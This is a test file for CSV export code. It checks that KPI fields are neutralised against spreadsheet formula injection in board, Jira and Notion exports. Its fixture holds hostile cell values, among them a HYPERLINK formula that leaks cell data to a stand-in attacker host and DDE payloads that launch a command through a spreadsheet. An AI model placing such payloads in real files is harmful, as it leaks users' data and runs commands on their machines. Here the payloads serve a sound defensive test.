import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import type { ExportKpi } from '../../domain/export'
import { BOARD_COLUMNS, boardToCsv } from './board-table'
import { parseBoardTable } from './board-table-parse'
import { boardToJiraCsv } from './jira-csv'
import { boardToNotionFiles } from './notion-files'
import { sampleKpis } from './testing/sample-kpis'

// What a hostile (or merely unlucky) KPI might hold: each would run as a formula in a spreadsheet.
const HOSTILE: Partial<ExportKpi> = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  description: '\t=1+1',
  owner: '@SUM(1+1)*cmd|"/C calc"!A0',
  category: '-2+3+cmd|"/C calc"!A0',
  notes: "\r+cmd|'/C calc'!A0",
  dataSource: '=1+1',
  unit: "'=already quoted"
}

/** Cells a spreadsheet would evaluate: they start like a formula and are not a plain number. */
const formulaCells = (row: string[]): string[] => row.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))
const rows = (csv: Buffer): string[][] => Papa.parse<string[]>(csv.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data

describe('CSV injection', () => {
  const [first, ...others] = sampleKpis()
  const kpis: ExportKpi[] = [{ ...first!, ...HOSTILE, currentValue: -12.5 }, ...others]

  it('neutralises every text cell a spreadsheet would run, in the board CSV, and the import gives the values back', async () => {
    const [, row] = rows(boardToCsv(kpis))
    for (const field of Object.keys(HOSTILE) as (keyof ExportKpi)[]) {
      expect(row![BOARD_COLUMNS.indexOf(field as never)], field).toBe(`'${String(HOSTILE[field])}`)
    }
    // A number stays a number.
    expect(row![BOARD_COLUMNS.indexOf('currentValue')]).toBe('-12.5')
    const table = await parseBoardTable(boardToCsv(kpis), 'csv')
    expect(table.errors).toEqual([])
    expect(table.rows[0]!.fields).toMatchObject(HOSTILE)
  })

  it('neutralises the Jira CSV and Notion CSV cells too', () => {
    const [, jira] = rows(boardToJiraCsv(kpis))
    expect(formulaCells(jira!)).toEqual([])
    expect(jira![2]).toBe(`KPI-U001 ${HOSTILE.name}`)
    // The category becomes a label, neutralised like any other cell.
    expect(jira!.some((cell) => cell.startsWith("'-2+3+cmd"))).toBe(true)
    const [csv] = boardToNotionFiles({ boardName: 'Board', versionLabel: null, kpis, locale: 'en' })
    const [, notion] = rows(csv!.data)
    expect(notion![1]).toBe(`'${HOSTILE.name}`)
    expect(notion![2]).toBe(`'${HOSTILE.description}`)
    expect(formulaCells(notion!)).toEqual([])
    expect(notion).toContain('-12.5')
  })
})
